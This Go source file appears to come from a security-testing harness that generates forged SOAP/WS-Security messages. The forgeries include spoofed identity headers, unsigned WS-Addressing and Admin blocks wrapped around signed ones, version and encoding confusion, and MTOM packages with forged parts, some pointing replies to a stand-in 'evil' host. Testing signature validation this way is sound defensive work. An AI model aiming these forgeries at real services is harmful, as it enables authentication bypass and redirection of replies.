package attacks

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"unicode/utf16"
)

// spoof adds addresses, actions and names that nobody has signed.
func (f *forge) spoof() {
	for _, action := range []string{`"urn:evil"`, `urn:evil`, `""`, "", `"urn:a" "urn:b"`, `"urn:evil`,
		"\"urn:\tevil\"", "é"} {
		m := f.Message
		m.Action = action
		f.addSent("SOAPAction "+action, Attack{Message: m})
	}
	for _, name := range []string{"X-Principal", "x-principal", "X_Principal", "X-Realm", "Authorization", "Cookie",
		"X-Forwarded-For", "Forwarded", "Connection", "Transfer-Encoding", "Host", "Proxy", "X-HTTP-Method-Override"} {
		for _, value := range []string{"admin@EXAMPLE.COM", "X-Principal", "close, X-Principal"} {
			f.addSent("HTTP "+name+": "+value, Attack{Message: f.Message, Header: map[string]string{name: value}})
		}
	}
	for _, space := range []string{nsWSA, nsWSA04} {
		for _, block := range []string{"To", "Action", "ReplyTo", "FaultTo", "From", "MessageID", "RelatesTo"} {
			content := "urn:evil"
			if strings.HasSuffix(block, "To") && block != "To" && block != "RelatesTo" || block == "From" {
				content = "<a:Address>http://evil/</a:Address>"
			}
			for _, attribute := range []string{"", ` env:mustUnderstand="1"`, ` u:Id="evil" xmlns:u="` + nsWSU + `"`} {
				text := fmt.Sprintf(`<a:%s xmlns:a="%s" xmlns:env="%s"%s>%s</a:%[1]s>`, block, space, f.root.space, attribute,
					content)
				f.add("first "+text, f.edited(afterStart(f.header, text)))
				f.add("last "+text, f.edited(beforeEnd(f.header, text)))
				for _, e := range f.header.children {
					if e.local == block {
						f.add("in place of the signed: "+text, f.edited(replace(e, text)))
						f.add("signed one in Security: "+text, f.edited(replace(e, text), beforeEnd(f.security, f.source(e))))
					}
				}
			}
		}
	}
	for _, block := range []string{`<x:Admin xmlns:x="urn:x">true</x:Admin>`,
		`<q:Admin xmlns:q="urn:x" xmlns:env="` + f.root.space + `" env:mustUnderstand="1">true</q:Admin>`} {
		f.add("unsigned block first "+block, f.edited(afterStart(f.header, block)))
		f.add("unsigned block last "+block, f.edited(beforeEnd(f.header, block)))
	}
	f.otherVersion()
}

// otherVersion sends a message as one of the other version of SOAP.
func (f *forge) otherVersion() {
	from, to := nsSOAP11, nsSOAP12
	if f.root.space == nsSOAP12 {
		from, to = to, from
	}
	f.add("Envelope of the other version", strings.Replace(f.src, from, to, 1))
	f.add("all of the other version", strings.ReplaceAll(f.src, from, to))
	for _, octets := range []string{f.src, strings.ReplaceAll(f.src, from, to)} {
		m := f.Message
		m.Octets, m.ContentType = []byte(octets), "text/xml; charset=utf-8"
		if to == nsSOAP12 {
			m.ContentType = `application/soap+xml; action="urn:evil"; charset=utf-8`
		}
		f.addSent("media type of the other version", Attack{Message: m})
	}
}

// trick sends the message in other forms than one body of one type.
func (f *forge) trick() {
	base, _, _ := strings.Cut(f.ContentType, ";")
	for _, kind := range []string{base, base + "; charset=utf-7", base + "; charset=utf-16", base + "; charset=iso-8859-1",
		base + "; charset=ebcdic-cp-us", "text/plain", "application/x-www-form-urlencoded", "multipart/related", "",
		"multipart/form-data; boundary=b", base + "; charset=utf-8; charset=utf-16"} {
		m := f.Message
		m.ContentType = kind
		f.addSent("Content-Type "+kind, Attack{Message: m})
	}
	for _, order := range []string{"le", "be"} {
		m := f.Message
		m.Octets, m.ContentType = utf16Of(f.src, order == "be"), base+"; charset=utf-16"
		f.addSent("in UTF-16 "+order, Attack{Message: m})
	}
	for _, coding := range []string{"gzip", "deflate", "identity", "gzip, gzip", "br"} {
		m := f.Message
		f.addSent("not in Content-Encoding "+coding, Attack{Message: m, Header: map[string]string{
			"Content-Encoding": coding}})
		m.Octets = gzipped(f.Octets)
		f.addSent("gzip in Content-Encoding "+coding, Attack{Message: m, Header: map[string]string{
			"Content-Encoding": coding}})
	}
	for _, prefix := range []string{"\xef\xbb\xbf", " ", "\n", "\x00", `<?xml version="1.0" encoding="utf-16"?>`,
		`<?xml version="1.1"?>`, `<?xml-stylesheet href="http://evil/"?>`, "<!-- x -->", "\xff\xfe"} {
		f.add(fmt.Sprintf("%q before", prefix), prefix+f.src)
		f.add(fmt.Sprintf("%q after", prefix), f.src+prefix)
	}
	f.packages(base)
}

func utf16Of(text string, bigEndian bool) []byte {
	var out []byte
	for _, unit := range append([]uint16{0xfeff}, utf16.Encode([]rune(text))...) {
		if bigEndian {
			out = append(out, byte(unit>>8), byte(unit))
		} else {
			out = append(out, byte(unit), byte(unit>>8))
		}
	}
	return out
}

func gzipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(b) // to memory
	_ = w.Close()
	return out.Bytes()
}

// packages sends the message as a package of MTOM, with forged parts.
func (f *forge) packages(base string) {
	forged := f.edited(edit{f.body.open, f.body.close, evil})
	include := func(e *element, id string) string {
		return f.edited(edit{e.open, e.close, `<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:` +
			id + `"/>`})
	}
	f.pack(base, "message alone", "<root>", part{"<root>", f.src})
	f.pack(base, "forged root, message second", "<root>", part{"<root>", forged}, part{"<other>", f.src})
	f.pack(base, "message, forged second", "<root>", part{"<root>", f.src}, part{"<other>", forged})
	f.pack(base, "start names the forged", "<other>", part{"<root>", f.src}, part{"<other>", forged})
	f.pack(base, "start names the second", "<other>", part{"<root>", forged}, part{"<other>", f.src})
	f.pack(base, "start names nothing", "<none>", part{"<root>", f.src}, part{"<other>", forged})
	f.pack(base, "two of one Content-ID", "<root>", part{"<root>", f.src}, part{"<root>", forged})
	f.pack(base, "no parts", "<root>")
	f.pack(base, "empty root", "<root>", part{"<root>", ""}, part{"<other>", f.src})
	for _, e := range f.root.all() {
		if len(e.children) > 0 || e.isEmptyTag() {
			continue
		}
		text := e.inner(f.Octets)
		f.pack(base, "Include in "+e.local, "<root>", part{"<root>", include(e, "p")}, part{"<p>", text})
		f.pack(base, "Include of markup in "+e.local, "<root>", part{"<root>", include(e, "p")}, part{"<p>", evil})
		f.pack(base, "Include of two in "+e.local, "<root>", part{"<root>", include(e, "p")}, part{"<p>", text},
			part{"<p>", evil})
		f.pack(base, "Include of the root in "+e.local, "<root>", part{"<root>", include(e, "root")})
		f.pack(base, "Include of nothing in "+e.local, "<root>", part{"<root>", include(e, "p")})
	}
	f.pack(base, "Include as Body", "<root>", part{"<root>", f.edited(edit{f.body.open, f.body.close,
		`<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:p"/>`})},
		part{"<p>", f.body.inner(f.Octets)})
}

type part struct{ id, octets string }

// pack adds an attack that is a package of MTOM, and one that says to be of SOAP
// Messages with Attachments.
func (f *forge) pack(base, name, start string, parts ...part) {
	const boundary = "=_boundary"
	var out strings.Builder
	for _, p := range parts {
		fmt.Fprintf(&out, "--%s\r\nContent-Type: application/xop+xml; charset=UTF-8; type=\"%s\"\r\n"+
			"Content-Transfer-Encoding: binary\r\nContent-ID: %s\r\n\r\n%s\r\n", boundary, base, p.id, p.octets)
	}
	fmt.Fprintf(&out, "--%s--\r\n", boundary)
	for _, kind := range []string{"application/xop+xml", "text/xml"} {
		m := f.Message
		m.Octets = []byte(out.String())
		m.ContentType = fmt.Sprintf(`multipart/related; boundary="%s"; type="%s"; start="%s"; start-info="%s"`, boundary,
			kind, start, base)
		f.addSent(name+", "+kind, Attack{Message: m})
	}
}
